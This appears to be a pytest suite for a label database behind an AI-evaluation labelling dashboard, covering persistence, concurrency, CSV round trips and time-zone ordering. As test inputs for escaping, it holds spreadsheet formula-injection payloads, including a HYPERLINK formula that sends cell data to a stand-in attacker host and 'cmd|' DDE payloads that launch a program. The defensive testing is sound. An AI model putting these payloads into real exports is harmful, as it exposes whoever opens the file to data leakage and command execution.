"""The label database: persistence, concurrent saves, CSV round trip (formulas escaped, columns
checked), latest label by instant, unusable paths."""

from __future__ import annotations

import csv
import io
import multiprocessing
import sqlite3
import threading
from datetime import datetime
from pathlib import Path

import pytest

from dashboard.label_store import (
    CSV_COLUMNS,
    EXPORT_COLUMNS,
    FORMULA_STARTS,
    Label,
    LabelStore,
    LabelStoreError,
    escape_cell,
    open_store,
    unescape_cell,
)

SAVES = 25


def _label(
    sample: str = "s:arm=ai", verdict: str = "deceptive", who: str = "ann", **kw: object
) -> Label:
    return Label.model_validate(
        {
            "log": "run.eval",
            "sample_id": sample,
            "epoch": 1,
            "labeller": who,
            "verdict": verdict,
            **kw,
        }
    )


def test_labels_survive_a_restart_and_the_latest_wins(tmp_path: Path) -> None:
    path = tmp_path / "labels.sqlite"
    store, warning = open_store(path)
    assert warning is None
    store.save(_label(verdict="honest", note="first look"))
    store.save(_label(verdict="deceptive", tactics=("omitted_own_role",), note="<b>second</b>"))
    store.save(_label(who="bob", verdict="honest"))

    reopened = LabelStore(path)  # a new app process
    latest = {(x.labeller, x.verdict) for x in reopened.latest()}
    assert latest == {("ann", "deceptive"), ("bob", "honest")}
    history = reopened.history("run.eval", "s:arm=ai", 1)
    assert [x.verdict for x in history] == ["honest", "deceptive", "honest"]
    assert history[1].tactics == ("omitted_own_role",) and history[1].note == "<b>second</b>"
    with sqlite3.connect(path) as conn:
        assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        assert conn.execute("PRAGMA user_version").fetchone()[0] == 3


def _save_many(path: str, who: str, start: threading.Barrier | None = None) -> None:
    store = LabelStore(path)
    if start is not None:
        start.wait()
    for i in range(SAVES):
        store.save(_label(sample=f"s{i % 3}", who=who, note=f"{who} {i}"))


def test_two_threads_saving_at_once_lose_nothing(tmp_path: Path) -> None:
    path = str(tmp_path / "labels.sqlite")
    LabelStore(path).initialise()
    start = threading.Barrier(2)
    threads = [threading.Thread(target=_save_many, args=(path, w, start)) for w in ("tab1", "tab2")]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    notes = {x.note for x in LabelStore(path).history()}
    assert notes == {f"{w} {i}" for w in ("tab1", "tab2") for i in range(SAVES)}


def test_two_processes_saving_at_once_lose_nothing(tmp_path: Path) -> None:
    path = str(tmp_path / "labels.sqlite")
    LabelStore(path).initialise()
    ctx = multiprocessing.get_context("spawn")
    procs = [ctx.Process(target=_save_many, args=(path, w)) for w in ("p1", "p2")]
    for p in procs:
        p.start()
    for p in procs:
        p.join(timeout=120)
        assert p.exitcode == 0
    history = LabelStore(path).history()
    assert len(history) == 2 * SAVES
    assert {(x.labeller, x.sample_id) for x in LabelStore(path).latest()} == {
        (w, f"s{i}") for w in ("p1", "p2") for i in range(3)
    }


def test_csv_round_trip_is_idempotent(tmp_path: Path) -> None:
    source = LabelStore(tmp_path / "a.sqlite")
    source.initialise()
    source.save(_label(note='comma, "quotes"\nand a newline'))
    source.save(_label(who="bob", verdict="unclear", tactics=("other", "invented_policy")))
    text = source.export_csv()
    assert text.splitlines()[0] == ",".join(EXPORT_COLUMNS)

    target = LabelStore(tmp_path / "b.sqlite")
    target.initialise()
    assert target.import_csv(text).added == 2
    again = target.import_csv(text)
    assert (again.added, again.duplicates) == (0, 2)
    assert target.history() == source.history()


@pytest.mark.parametrize(
    ("csv_text", "message"),
    [
        ("log,sample_id\nx,y\n", "missing columns"),
        (
            ",".join(CSV_COLUMNS) + "\nrun.eval,s,1,ann,maybe,,,2026-01-01T00:00:00+00:00\n",
            "row 2, column verdict",
        ),
        (
            ",".join(CSV_COLUMNS) + "\nrun.eval,s,one,ann,honest,,,2026-01-01T00:00:00+00:00\n",
            "row 2, column epoch: 'one' is not a number",
        ),
        (
            ",".join(CSV_COLUMNS) + "\nrun.eval,s,0,ann,honest,,,2026-01-01T00:00:00+00:00\n",
            "row 2, column epoch",
        ),
        (",".join(CSV_COLUMNS) + "\nrun.eval,s,1,ann,honest,,,yesterday\n", "ISO 8601"),
    ],
)
def test_bad_import_adds_nothing(tmp_path: Path, csv_text: str, message: str) -> None:
    store = LabelStore(tmp_path / "labels.sqlite")
    store.initialise()
    result = store.import_csv(csv_text)
    assert result.added == 0 and message in " ".join(result.errors)
    assert store.history() == []


def test_unusable_paths_give_a_warning_not_a_crash(tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    for path in (blocker / "labels.sqlite", tmp_path):
        store, warning = open_store(path)
        assert warning is not None and "Labels cannot be saved" in warning
        with pytest.raises(LabelStoreError):
            store.save(_label())
    garbage = tmp_path / "garbage.sqlite"
    garbage.write_bytes(b"this is not a database" * 100)
    _, warning = open_store(garbage)
    assert warning is not None and "not a database" in warning


def test_label_validation() -> None:
    with pytest.raises(ValueError, match="labeller"):
        _label(who="  ")
    with pytest.raises(ValueError, match="snake_case"):
        _label(tactics=("Not A Tactic",))
    assert _label(tactics=("b", "a", "a")).tactics == ("a", "b")


HEADER = ",".join(CSV_COLUMNS)
AT = "2026-01-01T00:00:00+00:00"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
# values that begin with a quote: the escape must not eat a quote the labeller wrote
QUOTED = ["'=1+1", "''=1+1", "'", "''", "'plain", "'-", "'\t"]


def _store(tmp_path: Path, name: str = "labels.sqlite") -> LabelStore:
    store = LabelStore(tmp_path / name)
    store.initialise()
    return store


def _cells(csv_text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text)))[1:]


@pytest.mark.parametrize("value", FORMULAS + QUOTED + ["plain", "", "a=b", "1-2"])
def test_cell_escape_is_exactly_undone(value: str) -> None:
    cell = escape_cell(value)
    assert unescape_cell(cell) == value
    assert not cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("formula", FORMULAS)
def test_export_escapes_formulas_and_import_round_trips_them(tmp_path: Path, formula: str) -> None:
    source = _store(tmp_path, "a.sqlite")
    source.save(_label(note=formula))
    source.save(_label(who=formula, sample=formula, verdict="honest"))
    text = source.export_csv()
    cells = [c for row in _cells(text) for c in row]
    assert "'" + formula in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells

    target = _store(tmp_path, "b.sqlite")
    assert target.import_csv(text).errors == []
    assert target.history() == source.history()
    assert target.export_csv() == text  # export -> import -> export is stable


@pytest.mark.parametrize("note", ["one\rtwo", "one\ntwo", "one\r\ntwo", 'a, "b"', "end\r"])
def test_line_breaks_and_quotes_inside_a_cell_round_trip(tmp_path: Path, note: str) -> None:
    source = _store(tmp_path, "a.sqlite")
    source.save(_label(note=note))
    target = _store(tmp_path, "b.sqlite")
    assert target.import_csv(source.export_csv()).errors == []
    assert [x.note for x in target.history()] == [note]


@pytest.mark.parametrize("value", QUOTED)
def test_a_leading_quote_the_labeller_wrote_survives_the_round_trip(
    tmp_path: Path, value: str
) -> None:
    source = _store(tmp_path, "a.sqlite")
    source.save(_label(note=value))
    target = _store(tmp_path, "b.sqlite")
    assert target.import_csv(source.export_csv()).errors == []
    assert [x.note for x in target.history()] == [value]
    assert target.export_csv() == source.export_csv()


# (earlier, later) as instants, where comparing the text would pick the wrong one
TIMEZONE_PAIRS = [
    ("2026-03-01T10:00:00+02:00", "2026-03-01T09:00:00+00:00"),
    ("2026-03-01T10:00:00.000001+02:00", "2026-03-01T08:00:00.000002Z"),
    ("2026-03-01T00:30:00+01:00", "2026-02-28T23:45:00+00:00"),
    ("2026-03-01T20:00:00+05:30", "2026-03-01T09:31:00-05:00"),
    ("2026-03-01T23:00:00+14:00", "2026-02-28T23:30:00-10:00"),
]


@pytest.mark.parametrize(("earlier", "later"), TIMEZONE_PAIRS)
@pytest.mark.parametrize("later_first", [False, True])
def test_latest_label_is_the_latest_instant(
    tmp_path: Path, earlier: str, later: str, later_first: bool
) -> None:
    assert datetime.fromisoformat(earlier) < datetime.fromisoformat(later)
    assert later < earlier  # as text the order is the other way round
    rows = [
        f"run.eval,s,1,ann,honest,,earlier,{earlier}",
        f"run.eval,s,1,ann,deceptive,,later,{later}",
    ]
    if later_first:
        rows.reverse()
    store = _store(tmp_path)
    assert store.import_csv("\n".join([HEADER, *rows]) + "\n").errors == []
    [latest] = store.latest()
    assert (latest.note, latest.labelled_at) == ("later", later)
    assert [x.note for x in store.history()] == ["earlier", "later"]
    assert [x.note for x in store.history("run.eval", "s", 1)] == ["earlier", "later"]
    # a label saved now is later than both
    store.save(_label(sample="s", verdict="unclear", note="now"))
    assert [x.note for x in store.latest()] == ["now"]


@pytest.mark.parametrize(
    "naive", ["2026-03-01T09:00:00", "2026-03-01 09:00:00.123456", "2026-03-01", "20260301T0900"]
)
def test_a_time_without_a_zone_is_rejected_naming_row_and_column(
    tmp_path: Path, naive: str
) -> None:
    store = _store(tmp_path)
    text = "\n".join(
        [HEADER, f"run.eval,s,1,ann,honest,,,{AT}", f"run.eval,s,1,ann,honest,,,{naive}"]
    )
    result = store.import_csv(text)
    assert result.added == 0 and store.history() == []
    [error] = result.errors
    assert error.startswith("row 3, column labelled_at:")
    assert f"'{naive}' has no time zone" in error and "+00:00" in error
    with pytest.raises(ValueError, match="has no time zone"):
        _label(labelled_at=naive)


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        (HEADER + ",extra", ["unknown columns 'extra'"]),
        (HEADER + ",=cmd,comment", ["unknown columns '=cmd', 'comment'"]),
        (HEADER.replace("note", "notes"), ["unknown columns 'notes'", "missing columns 'note'"]),
        (HEADER.replace(",tactics", ""), ["missing columns 'tactics'"]),
        (HEADER + ",note", ["repeated columns 'note'"]),
        ("\ufeff" + HEADER, ["unknown columns '\\ufefflog'", "missing columns 'log'"]),
        ("", ["no header row"]),
    ],
)
def test_unknown_missing_or_repeated_columns_are_rejected(
    tmp_path: Path, header: str, expected: list[str]
) -> None:
    store = _store(tmp_path)
    result = store.import_csv(header + "\n" + f"run.eval,s,1,ann,honest,,,{AT}\n")
    [error] = result.errors
    for part in expected:
        assert part in error
    assert "expected columns " + ", ".join(CSV_COLUMNS) in error
    assert result.added == 0 and store.history() == []


def test_columns_may_come_in_any_order(tmp_path: Path) -> None:
    store = _store(tmp_path)
    header = ",".join(reversed(CSV_COLUMNS))
    result = store.import_csv(f"{header}\n{AT},n,,honest,ann,1,s,run.eval\n")
    assert (result.added, result.errors) == (1, [])
    assert store.latest()[0].note == "n"


@pytest.mark.parametrize(
    ("row", "message"),
    [
        (f"run.eval,s,1,ann,honest,,,{AT},surplus", "row 2: 9 cells; the header has 8"),
        ("run.eval,s,1,ann,honest,,", "row 2: 7 cells; the header has 8"),
    ],
)
def test_rows_of_the_wrong_width_are_rejected(tmp_path: Path, row: str, message: str) -> None:
    store = _store(tmp_path)
    assert store.import_csv(f"{HEADER}\n{row}\n").errors == [message]


def test_a_stored_time_without_a_zone_is_a_named_store_error(tmp_path: Path) -> None:
    store = _store(tmp_path)
    with sqlite3.connect(store.path) as conn:  # as a schema-1 import could have left it
        conn.execute(
            "INSERT INTO label_history (log, sample_id, epoch, labeller, verdict, labelled_at) "
            "VALUES ('run.eval', 's', 1, 'ann', 'honest', '2026-01-01T00:00:00')"
        )
    with pytest.raises(
        LabelStoreError, match=r"label_history id 1, column labelled_at: .*time zone"
    ):
        store.latest()


def test_schema_1_database_loses_its_text_ordered_view(tmp_path: Path) -> None:
    path = tmp_path / "labels.sqlite"
    with sqlite3.connect(path) as conn:
        conn.executescript(
            "CREATE TABLE label_history (id INTEGER PRIMARY KEY AUTOINCREMENT, log TEXT NOT NULL, "
            "sample_id TEXT NOT NULL, epoch INTEGER NOT NULL, labeller TEXT NOT NULL, "
            "verdict TEXT NOT NULL, tactics TEXT NOT NULL DEFAULT '', note TEXT NOT NULL "
            "DEFAULT '', labelled_at TEXT NOT NULL, UNIQUE (log, sample_id, epoch, labeller, "
            "labelled_at, verdict, tactics, note));"
            "CREATE VIEW labels AS SELECT * FROM label_history; PRAGMA user_version = 1;"
        )
        conn.execute(
            "INSERT INTO label_history (log, sample_id, epoch, labeller, verdict, labelled_at) "
            "VALUES ('run.eval', 's', 1, 'ann', 'honest', ?)",
            (TIMEZONE_PAIRS[0][1],),
        )
    store, warning = open_store(path)
    assert warning is None
    store.save(_label(sample="s", verdict="deceptive", labelled_at=TIMEZONE_PAIRS[0][0]))
    assert [x.verdict for x in store.latest()] == ["honest"]
    with sqlite3.connect(path) as conn:
        assert conn.execute("SELECT name FROM sqlite_master WHERE type = 'view'").fetchall() == []
        assert conn.execute("PRAGMA user_version").fetchone()[0] == 3


def test_older_database_gains_the_blind_column(tmp_path: Path) -> None:
    """A schema-2 database opens with every label it holds marked not blind, and takes blind
    labels from then on."""
    path = tmp_path / "labels.sqlite"
    with sqlite3.connect(path) as conn:
        conn.executescript(
            "CREATE TABLE label_history (id INTEGER PRIMARY KEY AUTOINCREMENT, log TEXT NOT NULL, "
            "sample_id TEXT NOT NULL, epoch INTEGER NOT NULL, labeller TEXT NOT NULL, "
            "verdict TEXT NOT NULL, tactics TEXT NOT NULL DEFAULT '', note TEXT NOT NULL "
            "DEFAULT '', labelled_at TEXT NOT NULL, UNIQUE (log, sample_id, epoch, labeller, "
            "labelled_at, verdict, tactics, note)); PRAGMA user_version = 2;"
        )
        conn.execute(
            "INSERT INTO label_history (log, sample_id, epoch, labeller, verdict, labelled_at) "
            "VALUES ('run.eval', 's', 1, 'ann', 'honest', '2026-01-01T00:00:00+00:00')"
        )
    assert [x.blind for x in LabelStore(path).history()] == [False]  # readable before opening
    store, warning = open_store(path)
    assert warning is None
    store.save(
        _label(sample="s", who="bob", verdict="deceptive").model_copy(update={"blind": True})
    )
    assert {(x.labeller, x.blind) for x in store.history()} == {("ann", False), ("bob", True)}
    with sqlite3.connect(path) as conn:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == 3
    open_store(path)  # opening again is a no-op
    assert len(store.history()) == 2


def test_csv_carries_blind(tmp_path: Path) -> None:
    source = LabelStore(tmp_path / "a.sqlite")
    source.initialise()
    source.save(_label(who="ann").model_copy(update={"blind": True}))
    source.save(_label(who="bob"))
    text = source.export_csv()
    target = LabelStore(tmp_path / "b.sqlite")
    target.initialise()
    assert target.import_csv(text).added == 2
    assert {(x.labeller, x.blind) for x in target.history()} == {("ann", True), ("bob", False)}
    assert target.export_csv() == text


@pytest.mark.parametrize(
    ("cell", "expected"), [("true", True), ("false", False), (None, False), ("yes", None)]
)
def test_csv_import_reads_blind_or_names_it(
    tmp_path: Path, cell: str | None, expected: bool | None
) -> None:
    """`blind` is optional (an older export has none) and must be true or false."""
    header = ",".join(CSV_COLUMNS if cell is None else [*CSV_COLUMNS, "blind"])
    row = "run.eval,s,1,ann,honest,,,2026-01-01T00:00:00+00:00" + (
        "" if cell is None else f",{cell}"
    )
    store = LabelStore(tmp_path / "l.sqlite")
    store.initialise()
    result = store.import_csv(f"{header}\n{row}\n")
    if expected is None:
        assert result.errors == ["row 2, column blind: 'yes' is not true or false"]
    else:
        assert result.added == 1 and [x.blind for x in store.history()] == [expected]
